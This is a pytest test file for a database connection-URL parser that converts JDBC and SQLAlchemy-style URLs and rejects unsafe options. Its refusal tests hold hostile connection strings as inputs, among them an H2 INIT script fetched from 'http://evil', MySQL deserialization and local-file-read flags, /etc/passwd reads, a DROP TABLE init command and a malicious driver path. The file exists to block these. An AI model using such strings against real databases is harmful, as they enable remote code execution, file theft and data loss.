"""URLs of all kinds of databases, and what of them is refused."""

import re
import socket

import pytest

from airflow_provider_connect.connectors.jdbc.database.database import open_database
from airflow_provider_connect.connectors.jdbc.database.database_url import DatabaseUrl, parse_url
from airflow_provider_connect.connectors.jdbc.dialects.mysql import Mariadb, Mysql
from airflow_provider_connect.connectors.jdbc.dialects.oracle import Oracle
from airflow_provider_connect.connectors.jdbc.dialects.postgresql import Postgresql
from airflow_provider_connect.connectors.jdbc.dialects.sqlite import Sqlite
from airflow_provider_connect.connectors.jdbc.dialects.sqlserver import SqlServer
from airflow_provider_connect.errors import ConfigException, RetriableException

POSTGRESQL, SQLITE, MYSQL, MARIADB, ORACLE, MSSQL = Postgresql(), Sqlite(), Mysql(), Mariadb(), Oracle(), SqlServer()
DATABASES = {
    "jdbc:postgresql://db:6543/shop": DatabaseUrl(POSTGRESQL, "db", 6543, "shop"),
    "jdbc:postgresql://db/shop?user=ann&password=s%26x&ApplicationName=etl&prepareThreshold=0": DatabaseUrl(
        POSTGRESQL, "db", 5432, "shop", "ann", "s&x", {"application_name": "etl"}
    ),
    "jdbc:postgresql://a:1,b:2/shop?targetServerType=any": DatabaseUrl(POSTGRESQL, "a:1,b:2", None, "shop"),
    "jdbc:postgresql:shop": DatabaseUrl(POSTGRESQL, "localhost", 5432, "shop"),
    "jdbc:postgresql://[::1]:5433/shop?ssl=true": DatabaseUrl(POSTGRESQL, "[::1]", 5433, "shop", options={"sslmode": "verify-full"}),
    "postgres://ann:p%40ss@db/shop": DatabaseUrl(POSTGRESQL, "db", 5432, "shop", "ann", "p@ss"),
    "postgresql+psycopg2://ann@db/shop?sslmode=require": DatabaseUrl(POSTGRESQL, "db", 5432, "shop", "ann", options={"sslmode": "require"}),
    "jdbc:postgresql://db/shop?currentSchema=my_app": DatabaseUrl(POSTGRESQL, "db", 5432, "shop", schema="my_app"),
    "jdbc:sqlite:/var/lib/app.db": DatabaseUrl(SQLITE, database="/var/lib/app.db"),
    "sqlite:////var/lib/app.db": DatabaseUrl(SQLITE, database="/var/lib/app.db"),
    "sqlite:///app.db?mode=ro": DatabaseUrl(SQLITE, database="app.db", options={"mode": "ro"}),
    "sqlite://%2Fvar%2Flib%2Fapp.db": DatabaseUrl(SQLITE, database="/var/lib/app.db"),
    "jdbc:mysql://db/shop?useSSL=false&serverTimezone=UTC&allowLoadLocalInfile=false": DatabaseUrl(MYSQL, "db", 3306, "shop"),
    "jdbc:mariadb://db:3307/shop?sslMode=REQUIRED": DatabaseUrl(MARIADB, "db", 3307, "shop", options={"ssl_check_hostname": "true"}),
    "mysql+pymysql://ann:x@db/shop?charset=utf8mb4": DatabaseUrl(
        MYSQL, "db", 3306, "shop", "ann", "x", {"charset": "utf8mb4"}, driver="pymysql"
    ),
}


@pytest.mark.parametrize("text", DATABASES)
def test_url_is_read(text: str) -> None:
    assert parse_url(text) == DATABASES[text]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", ("INIT", "run code")),
        ("jdbc:h2:mem:x", ("no dialect for h2 here", "Java's JDBC connector has it")),
        ("jdbc:mysql://db/x?allowLoadLocalInfile=true", ("allowLoadLocalInfile", "read files")),
        ("jdbc:mysql://db/x?allowUrlInLocalInfile=yes", ("allowUrlInLocalInfile", "read files")),
        ("jdbc:mysql://db/x?autoDeserialize=true&queryInterceptors=a.B", ("autoDeserialize", "run code")),
        ("jdbc:mysql://db/x?%61utoDeserialize=true", ("autoDeserialize", "run code")),
        ("mysql+pymysql://db/x?read_default_file=/etc/passwd", ("read_default_file", "read files")),
        ("mysql+pymysql://db/x?init_command=DROP+TABLE+t", ("init_command", "run code")),
        ("jdbc:mariadb://db/x?sessionVariables=sql_mode=''", ("sessionVariables", "run code")),
        ("jdbc:postgresql://db/x?socketFactory=a.B&socketFactoryArg=http://evil", ("socketFactory", "run code")),
        ("jdbc:postgresql://db/x?loggerFile=/tmp/x", ("loggerFile", "read files")),
        ("postgresql://db/x?sslcrldir=/root", ("sslcrldir", "read files", "PGSSLROOTCERT")),
        ("postgresql://db/x?service=prod", ("service", "read files")),
        ("postgresql://db/x?options=-csession_preload_libraries=x", ("options", "run code")),
        ("postgresql://db/x?plugin=evil", ("plugin", "run code")),
        ("jdbc:sqlite:/tmp/x.db?enable_load_extension=true", ("enable_load_extension", "run code")),
        ("jdbc:sqlite::memory:", ("in memory",)),
        ("jdbc:sqlite::resource:http://evil/x.db", ("plain path",)),
        ("sqlite:///file:x.db", ("plain path",)),
        ("mssql+pyodbc://db/x?driver=/tmp/evil.so", ("driver", "run code")),
        ("mysql+evil://db/x", ("evil", "not known")),
        ("jdbc:postgresql://db:port/x", ("port", "number")),
        ("jdbc:postgresql://db/x?nonsense=1", ("nonsense", "Known are", "sslmode")),
        ("jdbc:mysql://db/x?sslMode=SOMETIMES", ("sslmode", "Known are")),
        ("db.example.com/x", ("Not the URL of a database",)),
        ("$CONNECTION_URL", ("This variable was not resolved", "${file:")),
        ("jdbc:", ("missing after jdbc:",)),
    ],
)
def test_url_is_refused_with_key_and_reason(text: str, words: tuple[str, ...]) -> None:
    with pytest.raises(ConfigException, match=r"connection\.url") as refused:
        parse_url(text)
    assert [word for word in words if word not in refused.value.message] == []


def test_password_is_in_no_text_but_that_for_the_driver() -> None:
    url = parse_url("postgresql://ann:topsecret@db/shop")
    assert "topsecret" not in f"{url!r} {url.address}"
    assert url.adbc_uri.startswith("postgresql://ann:topsecret@db:5432/shop?")
    with pytest.raises(ConfigException) as refused:
        parse_url("postgresql://ann:topsecret@db/shop?service=x")
    assert "topsecret" not in refused.value.message


@pytest.mark.parametrize(
    "rest",
    [
        "ann:half@topsecret@db/shop",
        "ann:topsecret/half@db/shop",
        "ann:half:topsecret/@db/shop",
        "ann:half@topsecret@half@db/shop",
        "ann:half/@topsecret@db/shop",
        "ann:1234/topsecret@db/shop",
        "db/shop?user=ann&password=half&topsecret",
        "db/shop?user=ann&password=half&topsecret=half",
        "ann:1234/?topsecret&half@db/shop",
        "db;user=ann;password=topsecret",
        "db/shop;user=ann;password=topsecret",
    ],
)
@pytest.mark.parametrize("scheme", ["postgresql", "jdbc:mariadb", "mysql+pymysql"])
def test_password_that_was_not_encoded_is_not_shown(scheme: str, rest: str) -> None:
    with pytest.raises(ConfigException, match=r"connection\.url.*%40") as refused:
        parse_url(f"{scheme}://{rest}")
    assert not {"topsecret", "half", "1234"} & set(re.findall(r"\w+", refused.value.message))


def test_drivers_get_urls_in_their_own_form() -> None:
    url = parse_url("jdbc:postgresql://db/my shop?currentSchema=a b").with_credentials("an:n", "p/w")
    uri, _, options = url.adbc_uri.partition("?")
    assert (uri, options.rpartition("&")[2]) == ("postgresql://an%3An:p%2Fw@db:5432/my%20shop", "options=-csearch_path%3Da%5C%20b")
    mariadb = parse_url("jdbc:mariadb://db/x").with_credentials("u", "p")
    assert mariadb.sqlalchemy_url.startswith("mariadb+pymysql://u:p@db:3306/x?connect_timeout=30&")
    assert parse_url("jdbc:sqlite:/a b.db").existing.adbc_uri == "file:/a%20b.db?mode=rw"
    assert parse_url("jdbc:sqlite:/a.db").sqlalchemy_url == "sqlite:////a.db"


def test_a_silent_server_is_waited_for_as_long_as_the_url_says() -> None:
    assert "?connect_timeout=30&keepalives_idle=60&" in parse_url("jdbc:postgresql://db/x").adbc_uri
    assert "?connect_timeout=5&" in parse_url("jdbc:postgresql://db/x?connectTimeout=5").adbc_uri
    assert "connect_timeout" not in parse_url("mysql+mysqldb://db/x").sqlalchemy_url  # each driver has options of its own
    with socket.create_server(("127.0.0.1", 0)) as silent, pytest.raises(RetriableException):
        open_database(parse_url(f"postgresql://ann@127.0.0.1:{silent.getsockname()[1]}/shop?connect_timeout=2"))


VENDORS = {
    "jdbc:oracle:thin:@host:1521/xe": DatabaseUrl(ORACLE, "host", 1521, options={"service_name": "xe"}),
    "jdbc:oracle:thin:@//host/ORCLPDB1": DatabaseUrl(ORACLE, "host", 1521, options={"service_name": "ORCLPDB1"}),
    "jdbc:oracle:thin:@host:1522:XE": DatabaseUrl(ORACLE, "host", 1522, "XE"),
    "jdbc:oracle:thin:scott/tig%er@host:1521/xe": DatabaseUrl(ORACLE, "host", 1521, None, "scott", "tig%er", {"service_name": "xe"}),
    "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=h)(PORT=1523))(CONNECT_DATA=(SERVICE_NAME=s)))": DatabaseUrl(
        ORACLE, "h", 1523, options={"service_name": "s"}
    ),
    "jdbc:sqlserver://h:1434;databaseName=x": DatabaseUrl(MSSQL, "h", 1434, "x"),
    "jdbc:sqlserver://h;user=sa;password={a;b}}c};encrypt=true;trustServerCertificate=true;database=x": DatabaseUrl(
        MSSQL, "h", 1433, "x", "sa", "a;b}c", {"encryption": "require"}
    ),
    "jdbc:sqlserver://;serverName=h;portNumber=1435;encrypt=false": DatabaseUrl(MSSQL, "h", 1435, options={"encryption": "request"}),
    "mssql+pymssql://sa@h/x": DatabaseUrl(MSSQL, "h", 1433, "x", "sa", driver="pymssql"),
}


@pytest.mark.parametrize("text", VENDORS)
def test_url_of_oracle_and_sql_server_is_read(text: str) -> None:
    assert parse_url(text) == VENDORS[text]


OPTIONS = {
    "jdbc:mysql://db/x?zeroDateTimeBehavior=convertToNull": {"zerodatetimebehavior": "convert_to_null"},
    "jdbc:mysql://db/x?zeroDateTimeBehavior=ROUND&tinyInt1isBit=false": {"zerodatetimebehavior": "round", "tinyint1isbit": "false"},
    "jdbc:mysql://db/x?connectTimeout=2500&socketTimeout=0&yearIsDateType=false": {"connect_timeout": "3"},
    "jdbc:mysql://db/x?useSSL=true&verifyServerCertificate=true": {"ssl_check_hostname": "true", "ssl_verify_cert": "true"},
    "jdbc:mysql://db/x?sslMode=VERIFY_IDENTITY": {"ssl_verify_cert": "true", "ssl_verify_identity": "true"},
    "jdbc:mariadb://db/x?sslMode=verify-full&serverSslCert=/tls/ca.pem": {
        "ssl_verify_cert": "true",
        "ssl_verify_identity": "true",
        "ssl_ca": "/tls/ca.pem",
    },
    "jdbc:postgresql://db/x?targetServerType=preferSecondary": {"target_session_attrs": "prefer-standby"},
    "jdbc:postgresql://db/x?readOnly=true&loadBalanceHosts=true": {"readonly": "true", "load_balance_hosts": "random"},
    "jdbc:postgresql://db/x?sslmode=verify-ca&sslrootcert=/tls/ca.pem": {"sslmode": "verify-ca", "sslrootcert": "/tls/ca.pem"},
}


@pytest.mark.parametrize("text", OPTIONS)
def test_an_option_that_changes_something_is_applied(text: str) -> None:
    assert parse_url(text).options == OPTIONS[text]


def test_a_connection_that_only_reads_is_one() -> None:
    url = parse_url("jdbc:postgresql://db/x?readOnly=true&currentSchema=app")
    assert url.adbc_uri.endswith("options=-csearch_path%3Dapp%20-cdefault_transaction_read_only%3Don")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("jdbc:mysql://db/x?zeroDateTimeBehavior=sometimes", ("zerodatetimebehavior",)),
        ("jdbc:mysql://db/x?yearIsDateType=true", ("yearisdatetype", "as a number")),
        ("jdbc:mysql://db/x?forceConnectionTimeZoneToSession=true", ("forceconnectiontimezonetosession", "db.timezone")),
        ("jdbc:mysql://db/x?nullCatalogMeansCurrent=false", ("nullcatalogmeanscurrent", "table.include")),
        ("jdbc:mysql://db/x?jdbcCompliantTruncation=false", ("jdbccomplianttruncation", "not known")),
        ("jdbc:mysql://db/x?trustCertificateKeyStoreUrl=file:/tls/t.jks", ("trustCertificateKeyStoreUrl", "PEM", "serverSslCert")),
        ("jdbc:mysql://a,b/x", ("Name one host",)),
        ("jdbc:mysql:loadbalance://a,b/x", ("loadbalance", "Name one host")),
        ("jdbc:sqlite:/x.db?foreign_keys=true", ("foreign_keys", "not enforced")),
        ("jdbc:sqlserver://h;encrypt=true", ("trustservercertificate", "does not verify")),
        ("jdbc:sqlserver://h;integratedSecurity=true", ("integratedsecurity", "connection.user")),
        ("jdbc:sqlserver://h\\PROD;databaseName=x", ("instance", "port")),
        ("jdbc:sqlserver://h;applicationIntent=ReadOnly", ("applicationintent", "Known are")),
        ("jdbc:oracle:thin:@prod", ("tnsnames.ora", "jdbc:oracle:thin:@//host:1521/service")),
        ("jdbc:oracle:thin:@tcps://h:2484/xe", ("TCPS", "listener's port for TCP", "kafka-connect-jdbc")),
        ("jdbc:oracle:thin:@//h:1521/s?oracle.net.wallet_password=x&b=c", ("not oracle.net.wallet_password, b",)),
        ("jdbc:jtds:sybase://h:5000/x", ("no dialect for sybase", "net.sourceforge.jtds:jtds")),
        ("jdbc:sqlserver://h;trustStore=/x.jks", ("trustStore", "Take the options of stores out", "trustServerCertificate=true")),
        ("jdbc:mysql://h/x?trustCertificateKeyStoreUrl=file:///x.jks", ("PEM", "serverSslCert=")),
        ("jdbc:jtds:sqlserver://h/x", ("jdbc:sqlserver://",)),
        (
            "jdbc:db2://h:50000/x",
            ("no dialect for db2 here (IBM Db2)", "com.ibm.db2:jcc", "untested on their servers, Oracle and SQL Server"),
        ),
        ("jdbc:db2://h:50002/x:sslConnection=true;sslTrustStoreLocation=/x.jks;", ("no dialect for db2", "com.ibm.db2:jcc")),
        ("jdbc:awsathena://AwsRegion=eu;S3OutputLocation=s3://x", ("no dialect for awsathena here (Amazon Athena)",)),
        ("jdbc:databricks://h:443/default;transportMode=http;ssl=1", ("com.databricks:databricks-jdbc", "docs/java-connectors.md")),
        ("jdbc:bigquery://https://x/v2:443;ProjectId=p", ("BigQuerySinkConnector",)),
        ("jdbc:datadirect:hive://h:10000;DatabaseName=x", ("no dialect for datadirect",)),
        ("jdbc:sap://h:39041/?databaseName=X&reconnect=true", ("no dialect for sap here (SAP HANA)", "com.sap.cloud.db.jdbc:ngdbc")),
        ("jdbc:redshift://$CLUSTER:$PORT/dev?user=u&password=p&ssl=false", ("com.amazon.redshift:redshift-jdbc42",)),
        ("jdbc:teradata://h/DATABASE=x", ("com.teradata.jdbc:terajdbc",)),
        ("jdbc:clickhouse:http://h:8123/x", ("com.clickhouse:clickhouse-jdbc", "ClickHouseSinkConnector")),
        ("jdbc:ch://h:8123/x?ssl=true", ("no dialect for ch here (ClickHouse)",)),
        ("jdbc:unheard://h/x?a=b", ("no dialect for unheard here: known are", "the driver's jar (that of unheard)")),
    ],
)
def test_one_that_cannot_be_applied_is_refused_by_its_name(text: str, words: tuple[str, ...]) -> None:
    with pytest.raises(ConfigException, match=r"connection\.url") as refused:
        parse_url(text)
    assert [word for word in words if word not in refused.value.message] == []
